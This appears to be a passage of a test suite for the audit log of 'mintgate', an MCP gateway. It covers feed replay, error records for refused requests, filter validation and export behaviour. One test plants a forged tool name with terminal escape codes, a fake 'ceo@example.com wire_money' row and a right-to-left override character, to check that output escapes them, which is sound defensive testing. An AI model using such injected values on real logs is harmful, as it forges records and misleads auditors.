    const live = await readFeed(undefined, (ids) => ids.length > 0);
    await c.callTool({ name: "add", arguments: { a: 2, b: 2 } });
    const seen = (await live.finished).ids;
    expect(seen.length).toBe(1);
    const before = (await (await fetch(`${gateway.url}/admin/api/audit?tool=add&kind=mcp&limit=1`, { headers })).json()) as { id: number }[];
    expect(seen[0]).toBe(before[0]!.id);
    // Disconnected: three more calls commit. The reconnect gets exactly those, in order, then live ones.
    for (let i = 0; i < 3; i++) await c.callTool({ name: "add", arguments: { a: i, b: 0 } });
    const expected = (await (await fetch(`${gateway.url}/admin/api/audit?limit=100`, { headers })).json() as { id: number }[]).map((r) => r.id).filter((id) => id > seen[0]!).sort((a, b) => a - b);
    expect(expected.length).toBeGreaterThanOrEqual(3);
    const resumed = await readFeed(String(seen[0]), (ids) => ids.length >= expected.length + 1);
    await c.callTool({ name: "add", arguments: { a: 9, b: 9 } });
    const got = (await resumed.finished).ids;
    expect(got.slice(0, expected.length)).toEqual(expected);
    expect(got.length).toBe(expected.length + 1);
    expect(got[expected.length]).toBe(expected[expected.length - 1]! + 1);
    expect((await resumed.finished).dropped).toBe(0);

    // Further behind than the reader's buffer (1,000 records, written here by another process): the newest
    // 1,000 come, after a `dropped` notice counting the rest; the gateway does not read the whole gap into memory.
    const store = openStore(join(dataDir, "mintgate.db"));
    const row = (i: number): NewAuditRow => ({ at: Date.now(), kind: "admin", person: "cli:test", userId: null, clientId: null, tokenId: null, ip: null, sessionId: null, virtualMcp: null, connector: null, method: "test.bulk", exposedName: String(i), upstreamName: null, arguments: null, result: null, resultSize: null, outcome: "ok", error: null, durationMs: null, detail: null });
    const from = got[got.length - 1]!;
    const last = from + 1500;
    // A reader connected meanwhile: once it has the last bulk record, the feed has read them (its 250 ms poll of
    // commits by other processes), so the reader behind is replayed them rather than sent them live.
    const watcher = await readFeed(undefined, (ids) => ids.includes(last));
    appendToChain(store, Array.from({ length: 1500 }, (_, i) => row(i)));
    store.close();
    await waitFor("the gateway to see the bulk records", async () => ((await (await fetch(`${gateway.url}/admin/api/audit?limit=1`, { headers })).json()) as { id: number }[])[0]!.id === last || undefined);
    expect((await watcher.finished).ids).toContain(last);
    const behind = await (await readFeed(String(from), (ids) => ids.includes(last))).finished;
    expect(behind.dropped).toBe(500);
    expect(behind.ids.length).toBe(1000);
    expect(behind.ids[0]).toBe(from + 501);
    expect(behind.ids.at(-1)).toBe(last);
    await gateway.stop();
  });

  test("requests a valid token brings but the transport refuses (406, 415, 400, 413, an unknown session; legacy endpoints too) are answered as before and leave one error record each; a bad token leaves none", async () => {
    const { dataDir, gateway, token, tokenId } = await startConfiguredGateway(DEMO, { user: "rita@example.com" });
    const url = `${gateway.url}/mcp/demo`;
    const headers = { authorization: `Bearer ${token}`, "content-type": "application/json", accept: "application/json, text/event-stream" };
    const opened = await fetch(url, { method: "POST", headers, body: JSON.stringify({ jsonrpc: "2.0", id: 0, method: "initialize", params: { protocolVersion: "2025-11-25", capabilities: {}, clientInfo: { name: "r", version: "1" } } }) });
    const session = opened.headers.get("mcp-session-id")!;
    await opened.text();
    const inSession = { ...headers, "mcp-session-id": session };
    const list = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/list" });
    const rpcError = (code: number, message: string, id: number | null = null) => ({ jsonrpc: "2.0", error: { code, message }, id });
    const tooLarge = "The request body is larger than the limit of 4194304 bytes.";
    const stream = await fetch(`${gateway.url}/sse/demo`, { headers: { authorization: `Bearer ${token}`, accept: "text/event-stream" } });
    const reader = stream.body!.getReader();
    const endpoint = new TextDecoder().decode((await reader.read()).value).match(/data: (\S+)/)![1]!;
    const legacySession = new URL(endpoint, gateway.url).searchParams.get("sessionId")!;
    const refusals = [
      { to: url, headers: { ...inSession, accept: "text/html" }, body: list, status: 406, sent: rpcError(-32000, "Not Acceptable: the Accept header must list both application/json and text/event-stream."), method: "tools/list", session },
      { to: url, headers: { ...inSession, "content-type": "text/plain" }, body: list, status: 415, sent: rpcError(-32000, "Unsupported Media Type: send the message as Content-Type: application/json."), method: "tools/list", session },
      { to: url, headers: inSession, body: '{"jsonrpc":"2.0","id":2,"method":"tools/list"', status: 400, sent: rpcError(-32700, "Parse error: the body is not valid JSON."), method: "HTTP POST", session },
      { to: url, headers: inSession, body: '{"jsonrpc":"2.0","id":3,"method":"tools/call","params":[]}', status: 400, sent: rpcError(-32600, "Invalid Request: params must be an object.", 3), method: "tools/call", session },
      { to: url, headers: inSession, body: new Uint8Array(4 * 1024 * 1024 + 1), status: 413, sent: { error: "payload_too_large", message: tooLarge }, method: "HTTP POST", session },
      { to: url, headers: { ...headers, "mcp-session-id": "no-such-session" }, body: list, status: 404, sent: rpcError(-32001, "Session not found; start a new session with initialize."), method: "tools/list", session: "no-such-session" },
      { to: `${gateway.url}${endpoint}`, headers: { ...headers, "content-type": "text/plain" }, body: list, status: 415, sent: rpcError(-32000, "Unsupported Media Type: send the message as Content-Type: application/json."), method: "tools/list", session: legacySession },
      { to: `${gateway.url}/messages/demo?sessionId=nope`, headers, body: list, status: 404, sent: rpcError(-32001, "Session not found; open a new event stream with GET /sse/demo."), method: "tools/list", session: "nope" },
    ];
    for (const refusal of refusals) {
      const response = await fetch(refusal.to, { method: "POST", headers: refusal.headers, body: refusal.body });
      expect({ status: response.status, sent: await response.json() }).toEqual({ status: refusal.status, sent: refusal.sent });
    }
    // A token that is not valid gets its 401 (or, with a body over the limit, the 413 it always got) and no MCP record.
    const badToken = { ...inSession, authorization: "Bearer mgt_not_a_token" };
    expect((await fetch(url, { method: "POST", headers: { ...badToken, "content-type": "text/plain" }, body: list })).status).toBe(401);
    const tooLargeUnsigned = await fetch(url, { method: "POST", headers: badToken, body: new Uint8Array(4 * 1024 * 1024 + 1) });
    expect({ status: tooLargeUnsigned.status, sent: await tooLargeUnsigned.json() }).toEqual({ status: 413, sent: { error: "payload_too_large", message: tooLarge } });
    await reader.cancel();

    const search = await runMintgate(["audit", "search", "--kind", "mcp", "--json", "--data", dataDir]);
    const records = (JSON.parse(search.stdout) as Record<string, unknown>[]).sort((a, b) => (a.id as number) - (b.id as number));
    expect(records.map((r) => [r.method, r.outcome])).toEqual([["initialize", "ok"], ...refusals.map((r) => [r.method, "error"])]);
    const common = { kind: "mcp", person: "rita@example.com", tokenId, ip: "127.0.0.1", virtualMcp: "demo", connector: null, exposedName: "", arguments: null, result: null, durationMs: null };
    expect(records.slice(1)).toEqual(
      refusals.map((r) => expect.objectContaining({ ...common, method: r.method, sessionId: r.session, error: `HTTP ${r.status}: ${(r.sent as { message?: string }).message ?? (r.sent as { error: { message: string } }).error.message}` })),
    );
    // /metrics counts them as errors of their method, and leaves them out of the calls' latency: nothing ran.
    const metrics = parseExposition(await (await fetch(`${gateway.url}/metrics`)).text());
    expect(sampleValue(metrics, "mintgate_mcp_requests_total", { virtual_mcp: "demo", method: "tools/call", outcome: "error" })).toBe(1);
    expect(sampleValue(metrics, "mintgate_tool_call_duration_seconds_count", { virtual_mcp: "demo" })).toBeUndefined();
    await gateway.stop();
    expect((await verify(dataDir)).report.ok).toBe(true);
  });

  test("a person's records are found by their email in any case, beyond ASCII too", async () => {
    const { dataDir, gateway } = await startConfiguredGateway(DEMO);
    const typed = "ÜNAL.Øre@Example.com";
    const c = await client(`${gateway.url}/mcp/demo`, await tokenFor(dataDir, typed));
    await c.callTool({ name: "add", arguments: { a: 1, b: 2 } });
    const headers = { authorization: `Bearer ${gateway.adminToken()}` };
    for (const asked of [typed, "ünal.øre@example.com", "Ünal.Øre@EXAMPLE.COM"]) {
      const viaApi = (await (await fetch(`${gateway.url}/admin/api/audit?kind=mcp&user=${encodeURIComponent(asked)}`, { headers })).json()) as { person: string; method: string }[];
      expect(viaApi.map((r) => r.method)).toContain("tools/call");
      expect(viaApi.every((r) => r.person === "ünal.øre@example.com")).toBe(true);
      const viaCli = await runMintgate(["audit", "search", "--user", asked, "--json", "--data", dataDir]);
      expect((JSON.parse(viaCli.stdout) as { method: string }[]).map((r) => r.method)).toContain("tools/call");
    }
    await gateway.stop();
  });

  test("a virtual MCP filter no slug can be (DEMO) is refused with the slug to use by search, export and the API, not answered as empty", async () => {
    const { dataDir, gateway } = await startConfiguredGateway(DEMO);
    const c = await client(`${gateway.url}/mcp/demo`, await tokenFor(dataDir, "ann@example.com"));
    await c.callTool({ name: "add", arguments: { a: 1, b: 2 } });
    const headers = { authorization: `Bearer ${gateway.adminToken()}` };
    for (const args of [["audit", "search"], ["audit", "export", "--format", "csv"]]) {
      const upper = await runMintgate([...args, "--vmcp", "DEMO", "--data", dataDir]);
      expect(upper).toEqual({ code: 2, stdout: "", stderr: 'mintgate: Virtual MCP slugs are lower case: use --vmcp demo, not "DEMO".\n' });
      const odd = await runMintgate([...args, "--vmcp", "my_vmcp", "--data", dataDir]);
      expect(odd.code).toBe(2);
      expect(odd.stderr).toBe('mintgate: --vmcp "my_vmcp" is not a virtual MCP slug (lower-case letters, digits and "-"); `mintgate export` lists them.\n');
    }
    for (const path of ["audit", "audit/export", "audit/count"]) {
      const response = await fetch(`${gateway.url}/admin/api/${path}?vmcp=Demo`, { headers });
      expect(response.status).toBe(400);
      expect(((await response.json()) as { message: string }).message).toBe('Virtual MCP slugs are lower case: use vmcp=demo, not "Demo".');
    }
    // A filter that matches nothing says so on stderr, not only with an empty file (a CSV header alone).
    const none = await runMintgate(["audit", "export", "--format", "csv", "--vmcp", "no-such-vmcp", "--data", dataDir]);
    expect(none).toMatchObject({ code: 0, stderr: "mintgate: no audit records match, so the output holds none; `mintgate audit search` with the same filters shows what there is.\n" });
    expect(none.stdout.split("\n")[0]).toStartWith("id,at,kind,person");
    // The slug itself still finds the call.
    const found = await runMintgate(["audit", "search", "--vmcp", "demo", "--kind", "mcp", "--json", "--data", dataDir]);
    expect((JSON.parse(found.stdout) as { method: string }[]).map((r) => r.method)).toContain("tools/call");
    expect(((await (await fetch(`${gateway.url}/admin/api/audit/count?vmcp=demo&kind=mcp`, { headers })).json()) as { count: number }).count).toBeGreaterThan(0);
    await gateway.stop();
  });

  test("a window whose start is not before its end is refused by search and export, as stats refuses it, not answered as empty", async () => {
    const { dataDir, gateway } = await startConfiguredGateway(DEMO);
    const headers = { authorization: `Bearer ${gateway.adminToken()}` };
    for (const [since, until] of [["1h", "2h"], ["2026-02-01", "2026-01-01"], ["2026-01-01T00:00:00Z", "2026-01-01"]] as const) {
      for (const args of [["audit", "search"], ["audit", "export", "--format", "csv"]]) {
        const result = await runMintgate([...args, "--since", since, "--until", until, "--data", dataDir]);
        expect(result.code).toBe(2);
        expect(result.stdout).toBe("");
        expect(result.stderr).toContain("The window is empty");
      }
      for (const path of ["audit", "audit/export", "audit/count"]) {
        const response = await fetch(`${gateway.url}/admin/api/${path}?since=${since}&until=${until}`, { headers });
        expect(response.status).toBe(400);
        expect(((await response.json()) as { message: string }).message).toContain("The window is empty");
      }
    }
    // Text that only Date.parse's lenient forms read is refused, not taken for another moment ("-5" was May 2001, Feb 30 was Mar 2).
    for (const odd of ["-5", "2026-02-30", "Nov 28 2026"]) {
      expect((await runMintgate(["audit", "export", "--format", "jsonl", "--since", odd, "--data", dataDir])).code).toBe(2);
      expect((await fetch(`${gateway.url}/admin/api/audit?until=${encodeURIComponent(odd)}`, { headers })).status).toBe(400);
    }
    // A window the right way round still answers (empty or not).
    expect((await runMintgate(["audit", "search", "--since", "2h", "--until", "1h", "--data", dataDir])).code).toBe(0);
    expect((await fetch(`${gateway.url}/admin/api/audit?since=2h&until=1h`, { headers })).status).toBe(200);
    await gateway.stop();
  });

  test("a tool name a client chose cannot forge rows or send escape sequences through the `audit search` and `stats` tables", async () => {
    const dir = join(tempDir("mintgate-audit-forged"), "data");
    expect((await runMintgate(["init", "--data", dir])).code).toBe(0);
    const forged = "x\u001b[31mred\u001b[0m\n99  2026-01-01T00:00:00.000Z  mcp  ceo@example.com  demo  tools/call  wire_money  ok\u202e";
    const store = openStore(join(dir, "mintgate.db"));
    appendToChain(store, [
      {
        at: Date.now(), kind: "mcp", person: "ann@example.com", userId: null, clientId: null, tokenId: "t", ip: "127.0.0.1", sessionId: "s", virtualMcp: "demo",
        connector: null, method: "tools/call", exposedName: forged, upstreamName: null, arguments: "{}", result: null, resultSize: null, outcome: "error",
        error: "There is no such tool.", durationMs: 0.1, detail: null,
      },
    ]);
    store.close();
    for (const args of [["audit", "search"], ["stats"]]) {
      const { code, stdout } = await runMintgate([...args, "--data", dir]);
      expect(code).toBe(0);
      expect(stdout).not.toMatch(/[\u001b\u202e]/);
      expect(stdout).toContain("x\\u001b[31mred\\u001b[0m\\n99  2026");
      expect(stdout.split("\n").filter((line) => line.includes("ceo@example.com"))).toHaveLength(1);
      expect(stdout.trimEnd().split("\n")).toHaveLength(args[0] === "stats" ? 3 : 2);
    }
  });

  test("an export larger than the output's buffer many times over says nothing on stderr; one cut short by its reader (`| head`) stops quietly", async () => {
    const dir = join(tempDir("mintgate-audit-pipe"), "data");
    expect((await runMintgate(["init", "--data", dir])).code).toBe(0);
    const store = openStore(join(dir, "mintgate.db"));
    appendBulkCalls(store, 30_000, Date.now() - 60_000);
    store.close();
    // Each page waits for 'drain' once: its listeners were left behind, and Node warned of an EventEmitter leak past ten.
    const toFile = await runMintgate(["audit", "export", "--format", "jsonl", "-o", join(dir, "..", "all.jsonl"), "--data", dir]);
    expect(toFile).toMatchObject({ code: 0, stderr: "" });
    expect(readFileSync(join(dir, "..", "all.jsonl"), "utf8").split("\n")).toHaveLength(30_001);
    for (const format of ["jsonl", "csv"]) {
      const child = Bun.spawn(["bash", "-c", `"$0" audit export --format ${format} --data "$1" | head -c 100 >/dev/null; echo "\${PIPESTATUS[0]}"`, BINARY, dir], { env: cleanEnv(), stdout: "pipe", stderr: "pipe" });
      const [stdout, stderr] = await Promise.all([new Response(child.stdout).text(), new Response(child.stderr).text()]);
      await child.exited;
      expect({ status: stdout.trim(), stderr }).toEqual({ status: "0", stderr: "" });
    }
  });

  test("an export to -o FILE stopped midway leaves no FILE and no partial file; with --force an earlier FILE stays as it was until the new one is whole", async () => {
    const dir = join(tempDir("mintgate-audit-interrupt"), "data");
    expect((await runMintgate(["init", "--data", dir])).code).toBe(0);
    const store = openStore(join(dir, "mintgate.db"));
    appendBulkCalls(store, 200_000, Date.now() - 200_000, { arguments: JSON.stringify({ query: "x".repeat(200) }) });
    store.close();
    const folder = tempDir("mintgate-audit-out");
    const out = join(folder, "audit.jsonl");
    for (const [earlier, force] of [[undefined, []], ["an earlier export\n", ["--force"]]] as const) {
      if (earlier !== undefined) writeFileSync(out, earlier);
      const child = Bun.spawn([BINARY, "audit", "export", "--format", "jsonl", "-o", out, ...force, "--data", dir], { env: cleanEnv(), stdout: "ignore", stderr: "pipe" });
      // Stopped once the records are flowing into the temporary file beside FILE.
      await waitFor("the export to start writing", () => readdirSync(folder).some((name) => name.endsWith(".partial") && statSync(join(folder, name)).size > 0), 2000, 5);
      child.kill("SIGTERM");
      expect(await child.exited).toBe(143);
      expect(readdirSync(folder)).toEqual(earlier === undefined ? [] : ["audit.jsonl"]);
      if (earlier !== undefined) expect(readFileSync(out, "utf8")).toBe(earlier);
    }
    // Let run, it replaces the earlier file with every record.
    expect(await runMintgate(["audit", "export", "--format", "jsonl", "-o", out, "--force", "--data", dir])).toEqual({ code: 0, stdout: "", stderr: "" });
    expect(readFileSync(out, "utf8").split("\n")).toHaveLength(200_001);
    expect(readdirSync(folder)).toEqual(["audit.jsonl"]);
  }, 60_000);

  test("exporting 1,000,000 records stays under 200 MB RSS", async () => {
    const dir = join(tempDir("mintgate-audit-million"), "data");
    expect((await runMintgate(["init", "--data", dir])).code).toBe(0);
    const store = openStore(join(dir, "mintgate.db"));
    appendBulkCalls(store, 1_000_000, Date.now() - 1_000_000, { arguments: JSON.stringify({ query: "x".repeat(60) }), result: '{"content":[]}', resultSize: 14, durationMs: 2.25 });
    store.close();
    const out = join(dir, "..", "export.jsonl");
    const child = Bun.spawn([BINARY, "audit", "export", "--format", "jsonl", "-o", out, "--data", dir], { env: cleanEnv(), stdout: "ignore", stderr: "pipe" });
    let peakKb = 0;
    const poll = setInterval(() => {
      try {
        const status = readFileSync(`/proc/${child.pid}/status`, "utf8");
        peakKb = Math.max(peakKb, Number(/VmHWM:\s+(\d+)/.exec(status)?.[1] ?? 0));
      } catch {
        // exited
      }
    }, 20);
    expect(await child.exited).toBe(0);
    clearInterval(poll);
    expect(existsSync(out)).toBe(true);
    expect(statSync(out).size).toBeGreaterThan(300 * 1_000_000);
    console.log(`export of 1,000,000 records: peak RSS ${(peakKb / 1024).toFixed(0)} MB`);
    expect(peakKb).toBeGreaterThan(0);
    expect(peakKb).toBeLessThan(200 * 1024);
  }, 60_000);
});
